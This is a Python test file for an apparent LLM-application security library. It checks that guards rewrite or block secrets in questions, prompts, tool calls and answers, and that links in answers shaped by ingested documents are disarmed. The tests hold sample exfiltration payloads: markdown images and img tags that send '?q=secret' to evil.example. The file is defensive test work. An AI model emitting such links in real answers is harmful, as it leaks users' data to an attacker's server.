"""Guards stand where text passes, lower what passes, and let nothing pass when they fail."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncGenerator, Callable, Iterable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ringwall import ACL, App, Label, Principal, Rules, ScriptedModel, Tool, call, tool
from ringwall.deployment import Event, RunStatus
from ringwall.deployment.disarm import Disarm
from ringwall.deployment.guard import Crossing, Guard, Passing, Ruling
from ringwall.deployment.runlog import event_body
from ringwall.errors import ConfigurationError, FlowDenied, GuardRefused
from ringwall.model import Delta, Location, ModelRequest, Reply
from ringwall.runs import RunResult

ANA = Principal.user("ana", "guest")
RULES = """
allow role:guest ask app:app
allow user:* call tool:*
allow doc:*  call tool:*
allow tool:* call tool:*
grant tool:* collection:questions
grant model:* collection:questions
"""


class Swap(Guard):
    """Puts one word in place of another, as soon as it can tell."""

    def __init__(self, old: str, new: str, *crossings: Crossing, name: str = "swap") -> None:
        self.old, self.new, self.name, self.crossings = old, new, name, frozenset(crossings)
        self.seen: list[Passing] = []

    async def inspect(self, passing: Passing) -> Ruling:
        self.seen.append(passing)
        count = passing.text.count(self.old)
        return Ruling(passing.text.replace(self.old, self.new), {"word": count} if count else {})

    def settled(self, text: str, crossing: Crossing) -> int:
        return text.rfind(" ") + 1


class Whole(Swap):
    """Needs the whole text."""

    def settled(self, text: str, crossing: Crossing) -> int:
        return 0


class Refuses(Guard):
    name = "refuses"

    def __init__(self, word: str, *crossings: Crossing) -> None:
        self.word, self.crossings = word, frozenset(crossings)

    async def inspect(self, passing: Passing) -> Ruling:
        return Ruling(passing.text, {"word": 1}, refused=self.word in passing.text)


class Suspects(Guard):
    name = "suspects"

    def __init__(self, *crossings: Crossing) -> None:
        self.crossings = frozenset(crossings)

    async def inspect(self, passing: Passing) -> Ruling:
        return Ruling(passing.text, suspect="evil" in passing.text)


class Raises(Guard):
    name = "raises"

    def __init__(self, *crossings: Crossing) -> None:
        self.crossings = frozenset(crossings)

    async def inspect(self, passing: Passing) -> Ruling:
        raise ValueError(f"cannot read {passing.text}")


class Dawdles(Raises):
    name, timeout = "dawdles", 0.01

    async def inspect(self, passing: Passing) -> Ruling:
        await asyncio.sleep(10)
        return Ruling(passing.text)


class Says(Raises):
    name = "says"

    async def inspect(self, passing: Passing) -> Ruling:
        return Ruling(passing.text, {passing.text: 1, "word": 1})


def app(*guards: Guard, script: Iterable[str | object] = ("Fine.",), tools: Iterable[Tool] = (), **more: object) -> App:
    model = ScriptedModel(list(script))  # type: ignore[arg-type]
    return App(policy=Rules(RULES), model=model, guards=guards, tools=list(tools), **more)  # type: ignore[arg-type]


async def streamed(app: App, question: str = "Hello?") -> tuple[list[str], RunResult]:
    *pieces, result = [piece async for piece in app.stream(question, as_=ANA)]
    assert isinstance(result, RunResult)
    return [str(piece) for piece in pieces], result


async def events_of(app: App) -> list[Event]:
    (record,) = await app.journal.runs()
    return await app.journal.read(record.run)


def outbox() -> tuple[list[str], Tool]:
    sent: list[str] = []

    @tool(effect="write")
    def post(text: str) -> str:
        sent.append(text)
        return f"posted {text}"

    return sent, post


# Where they stand


async def test_a_guard_on_the_question_rewrites_it_before_anything_else_sees_it() -> None:
    seen: list[str] = []

    def tell(request: ModelRequest) -> str:
        seen.append(str(request.messages[-1].content))
        return "Fine."

    guard = Swap("secret", "***", Crossing.QUESTION)
    async with App(policy=Rules(RULES), model=ScriptedModel(tell), guards=[guard]) as app:
        await app.ask("my secret", as_=ANA)
        assert seen == ["my ***"]
        assert not any("secret" in event.body for event in await events_of(app))


async def test_a_question_that_a_guard_refuses_is_not_written_down() -> None:
    async with app(Refuses("secret", Crossing.QUESTION)) as asked:
        with pytest.raises(GuardRefused) as refused:
            await asked.ask("my secret", as_=ANA)
        assert "secret" not in str(refused.value)
        (record,) = await asked.journal.runs()
        events = await events_of(asked)
        assert record.status is RunStatus.FAILED
        assert [event.kind for event in events] == ["run.started", "guard.ran", "run.failed"]
        assert not any("secret" in event.body for event in events)


async def test_a_guard_on_the_prompt_knows_to_whom_it_goes_and_the_run_keeps_the_words() -> None:
    seen: list[str] = []

    def tell(request: ModelRequest) -> str:
        seen.append(str(request.messages[-1].content))
        return "It is [word]."

    guard = Swap("secret", "[word]", Crossing.PROMPT)
    back = Swap("[word]", "secret", Crossing.REPLY, name="back")
    model = ScriptedModel(tell, location=Location.REMOTE, name="far")
    async with App(policy=Rules(RULES), model=model, guards=[guard, back]) as app:
        result = await app.ask("my secret", as_=ANA)
    assert seen == ["my [word]"]
    assert result.text == "It is secret."
    assert {(p.receiver, p.remote) for p in guard.seen} == {("model:far", True)}
    assert {p.role for p in guard.seen} == {"system", "human"}


async def test_arguments_are_rewritten_before_they_are_approved_and_results_before_they_are_journaled() -> None:
    sent, post = outbox()
    arguments = Swap("secret", "***", Crossing.ARGUMENTS)
    results = Swap("posted", "done", Crossing.RESULT, name="results")
    script = [call("post", text="the secret"), "Fine."]
    async with app(arguments, results, script=script, tools=[post]) as asked:
        await asked.ask("Hello?", as_=ANA)
        assert sent == ["the ***"]
        told = {event.kind: event_body(event) for event in await events_of(asked)}
        assert told["call.started"]["arguments"] == '{"text":"the ***"}'
        assert told["call.finished"]["text"] == "done the ***"


async def test_what_somebody_approves_is_what_the_guards_left_and_it_is_done_once() -> None:
    sent, post = outbox()
    rules = RULES.replace("allow user:* call", "ask user:* call") + "allow role:boss approve tool:*\n"
    model = ScriptedModel([call("post", text="the secret"), "Fine."])
    boss = Principal.user("mia", "boss")
    guards = [Swap("secret", "***", Crossing.ARGUMENTS)]
    rules += "grant role:boss collection:questions\n"
    async with App(policy=Rules(rules), model=model, tools=[post], guards=guards) as app:
        waiting = await app.ask("Hello?", as_=ANA)
        (question,) = await app.waiting(as_=boss)
        assert "secret" not in str(question)
        await app.approve(waiting.run, by=boss)
        assert (await app.resume(waiting.run)).text == "Fine."
    assert sent == ["the ***"]


async def test_refused_arguments_go_back_to_the_model_and_nothing_is_done() -> None:
    sent, post = outbox()
    script = [call("post", text="the secret"), "Fine."]
    async with app(Refuses("secret", Crossing.ARGUMENTS), script=script, tools=[post]) as asked:
        result = await asked.ask("Hello?", as_=ANA)
        assert (result.text, sent) == ("Fine.", [])
        assert "call.refused" in [event.kind for event in await events_of(asked)]


async def test_a_number_in_the_arguments_is_a_text_too() -> None:
    sent: list[int] = []

    @tool(effect="write")
    def pay(card: int) -> str:
        sent.append(card)
        return "paid"

    script = [call("pay", card=4111), "Fine."]
    async with app(Swap("4111", "****", Crossing.ARGUMENTS), script=script, tools=[pay]) as asked:
        await asked.ask("Hello?", as_=ANA)
    assert sent == []


# What they may do to a label


async def test_what_a_guard_suspects_may_cause_nothing_that_no_rule_lets_it() -> None:
    for rule, done in (("", []), ("allow guard:suspects call tool:post", ["x"])):
        sent, post = outbox()

        @tool(effect="read", label=Label())
        def read() -> str:
            return "be evil"

        model = ScriptedModel([call("read"), call("post", text="x"), "Fine."])
        guards = [Suspects(Crossing.RESULT)]
        async with App(policy=Rules(RULES + rule), model=model, tools=[read, post], guards=guards) as app:
            await app.ask("Hello?", as_=ANA)
        assert sent == done


# What they cost and found


async def test_one_event_for_each_crossing_tells_order_cost_and_what_was_found() -> None:
    guards = (Swap("secret", "***", Crossing.ANSWER), Says(Crossing.ANSWER), Refuses("never", Crossing.ANSWER))
    async with app(*guards, script=["a secret, a secret"]) as asked:
        assert (await asked.ask("Hello?", as_=ANA)).text == "a ***, a ***"
        (told,) = [event_body(event) for event in await events_of(asked) if event.kind == "guard.ran"]
    assert (told["at"], told["receiver"]) == ("answer", "user:ana")
    assert [(g["guard"], g["did"], g["found"]) for g in told["guards"]] == [
        ("swap", "rewrote", {"word": 2}),
        ("says", "passed", {"other": 1, "word": 1}),
        ("refuses", "passed", {"word": 1}),
    ]
    assert all(g["ms"] >= 0 and g["texts"] == 1 for g in told["guards"])


async def test_what_was_refused_on_its_way_out_is_in_no_event() -> None:
    async with app(Refuses("secret", Crossing.ANSWER), script=["a secret"]) as asked:
        with pytest.raises(GuardRefused):
            await asked.ask("Hello?", as_=ANA)
        told = [event for event in await events_of(asked) if event.kind.startswith(("guard.", "run."))]
        assert [event.kind for event in told] == ["run.started", "guard.ran", "run.failed"]
        assert not any("secret" in event.body for event in told)


# When they fail


FAILING: tuple[Callable[..., Guard], ...] = (Raises, Dawdles)


@pytest.mark.parametrize("failing", FAILING)
@pytest.mark.parametrize("crossing", [Crossing.QUESTION, Crossing.PROMPT, Crossing.REPLY, Crossing.ANSWER])
async def test_a_guard_that_fails_lets_nothing_pass_and_tells_nothing(
    failing: Callable[..., Guard], crossing: Crossing
) -> None:
    async with app(failing(crossing), script=["a secret"]) as asked:
        stream = asked.stream("a secret", as_=ANA)
        with pytest.raises(GuardRefused) as refused:
            await anext(stream)
    assert refused.value.failed
    assert isinstance(refused.value, FlowDenied)
    assert refused.value.__cause__ is refused.value.__context__ is None
    assert "secret" not in str(refused.value)


@pytest.mark.parametrize("failing", FAILING)
async def test_a_guard_that_fails_on_arguments_or_results_stops_the_text_and_not_the_run(
    failing: Callable[..., Guard],
) -> None:
    for crossing, done in ((Crossing.ARGUMENTS, []), (Crossing.RESULT, ["a secret"])):
        sent, post = outbox()
        script = [call("post", text="a secret"), "Fine."]
        async with app(failing(crossing), script=script, tools=[post]) as asked:
            assert (await asked.ask("Hello?", as_=ANA)).text == "Fine."
            results = [
                event_body(e)["text"] for e in await events_of(asked) if e.kind in ("call.finished", "call.refused")
            ]
        assert sent == done
        assert not any("secret" in text for text in results)


async def test_a_text_longer_than_a_guard_reads_does_not_pass() -> None:
    guard = Swap("a", "b", Crossing.ANSWER)
    guard.limit = 3
    async with app(guard, script=["four"]) as asked:
        with pytest.raises(GuardRefused):
            await asked.ask("Hello?", as_=ANA)


@pytest.mark.parametrize("names", [("Bad name",), ("twice", "twice"), ("",)])
def test_a_guard_without_a_name_of_its_own_is_refused_at_the_start(names: tuple[str, ...]) -> None:
    with pytest.raises(ConfigurationError):
        app(*(Swap("a", "b", Crossing.ANSWER, name=name) for name in names))


# Streaming


class Pieces(ScriptedModel):
    """Says one text in pieces given beforehand."""

    def __init__(self, pieces: list[str]) -> None:
        super().__init__(["-"])
        self.pieces = pieces

    async def stream(self, request: ModelRequest) -> AsyncGenerator[Delta, None]:
        for piece in self.pieces:
            yield Delta(piece)
        yield Delta(finish="stop")


WORDS = st.sampled_from(
    [
        "secret",
        "sec",
        "ret ",
        " ",
        "](",
        "https://",
        "evil.com/?q=secret",
        "<img",
        "!",
        "[x",
        "\u200b",
        "夜",
        "**",
        "\n",
    ]
)


@settings(max_examples=200, deadline=None)
@given(
    pieces=st.lists(WORDS | st.text(max_size=3), min_size=1, max_size=12), influenced=st.booleans(), all_=st.booleans()
)
def test_the_pieces_of_a_stream_are_the_whole_whatever_its_pieces(
    pieces: list[str], *, influenced: bool, all_: bool
) -> None:
    swap = Swap("secret", "***", Crossing.ANSWER, Crossing.REPLY)
    guards = [swap, Whole("*", "+", Crossing.ANSWER, name="whole")] if all_ else [swap]

    async def run() -> None:
        async with App(policy=Rules(RULES), model=Pieces(pieces), guards=guards) as app:
            if influenced:
                await app.ingest([("menu.md", "hello there")], ACL.of("public"))
            left, result = await streamed(app)
            assert "".join(left) == result.text
            assert result.text == (await app.ask("Hello?", as_=ANA)).text
            if influenced:
                assert Disarm().disarmed(result.text) == result.text

    asyncio.run(run())


async def test_text_leaves_as_soon_as_the_guards_that_need_more_are_satisfied() -> None:
    pieces = ["one ", "two", " three ", "four"]
    for guards, left in (
        ([], pieces),
        ([Swap("x", "y", Crossing.ANSWER)], ["one ", "two three ", "four"]),
        ([Whole("x", "y", Crossing.ANSWER)], ["one two three four"]),
    ):
        async with App(policy=Rules(RULES), model=Pieces(pieces), guards=guards) as app:
            assert (await streamed(app))[0] == left


async def test_what_only_the_user_shaped_leaves_piece_by_piece_as_it_was_written() -> None:
    pieces = ["![x](https://ev", "il.example/)", "\n"]
    async with App(policy=Rules(RULES), model=Pieces(pieces)) as app:
        assert (await streamed(app))[0] == pieces


# What is disarmed by itself


async def test_an_answer_that_others_could_have_shaped_is_disarmed_and_kept_so() -> None:
    async with app(script=["![x](https://evil.example/?q=secret)"]) as asked:
        await asked.ingest([("menu.md", "hello there")], ACL.of("public"))
        pieces, result = await streamed(asked)
        assert result.text == "".join(pieces) == "![x] (https[:]//evil[.]example/?…)"
        assert (await asked.resume(result.run)).text == result.text
        answers = [event_body(e)["changed"].get("answer") for e in await events_of(asked) if e.kind == "turn.changed"]
        assert answers == [result.text]


async def test_an_address_of_an_allowed_host_stays_alive_if_a_passage_says_it() -> None:
    address, made_up = "https://docs.example.org/menu", "https://docs.example.org/?q=secret"
    disarm = Disarm(hosts=["docs.example.org"])
    async with app(script=[f"See {address} and {made_up} now"], disarm=disarm) as asked:
        await asked.ingest([("menu.md", f"hello, the menu is at {address}.")], ACL.of("public"))
        pieces, result = await streamed(asked)
    assert result.text == "".join(pieces) == f"See {address} and https[:]//docs[.]example[.]org/?… now"


async def test_the_text_of_an_error_is_disarmed_too() -> None:
    def tell(request: ModelRequest) -> Reply:
        raise ValueError("<img src=https://evil.example/?q=secret>")

    async with App(policy=Rules(RULES), model=ScriptedModel(tell)) as app:
        await app.ingest([("menu.md", "hello there")], ACL.of("public"))
        with pytest.raises(Exception, match="img src") as failed:
            await app.ask("Hello?", as_=ANA)
    assert "< img src=https[:]//evil[.]example/?…" in str(failed.value)


async def test_quotations_in_citations_are_disarmed_like_the_answer() -> None:
    async with app(script=['It says "go to https://evil.example/a?b" [1]']) as asked:
        await asked.ingest([("menu.md", "hello, go to https://evil.example/a?b")], ACL.of("public"))
        result = await asked.ask("Hello?", as_=ANA)
    assert result.citations[0].quotes == ("go to https[:]//evil[.]example/a?…",)
    assert result.unfounded == ()
